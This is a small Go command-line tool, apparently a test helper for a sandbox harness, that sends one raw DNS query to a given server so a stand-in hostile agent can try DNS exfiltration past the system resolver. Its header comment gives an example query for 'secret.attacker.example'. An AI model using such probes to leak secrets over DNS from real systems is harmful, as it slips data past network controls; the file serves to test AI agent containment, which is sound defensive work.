// Command dnsprobe sends one DNS query for a name to a server, as a
// program with a resolver of its own would, and exits 0 only when the
// server answered it: a hostile stand-in agent's way to try DNS
// exfiltration without the system's resolver.
//
//	dnsprobe 127.0.0.1:5353 secret.attacker.example
package main

import (
	"encoding/binary"
	"fmt"
	"net"
	"os"
	"strings"
	"time"
)

func main() {
	if len(os.Args) != 3 {
		fmt.Fprintln(os.Stderr, "usage: dnsprobe SERVER:PORT NAME")
		os.Exit(2)
	}
	c, err := net.Dial("udp", os.Args[1])
	if err != nil {
		fmt.Println("no answer:", err)
		os.Exit(1)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	q := []byte{0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(os.Args[2], ".") {
		q = append(append(q, byte(len(label))), label...)
	}
	q = binary.BigEndian.AppendUint16(append(q, 0), 1)
	q = binary.BigEndian.AppendUint16(q, 1)
	if _, err := c.Write(q); err != nil {
		fmt.Println("no answer:", err)
		os.Exit(1)
	}
	buf := make([]byte, 512)
	n, err := c.Read(buf)
	if err != nil || n < 12 {
		fmt.Println("no answer:", err)
		os.Exit(1)
	}
	fmt.Println("answered, rcode", buf[3]&0xf)
}
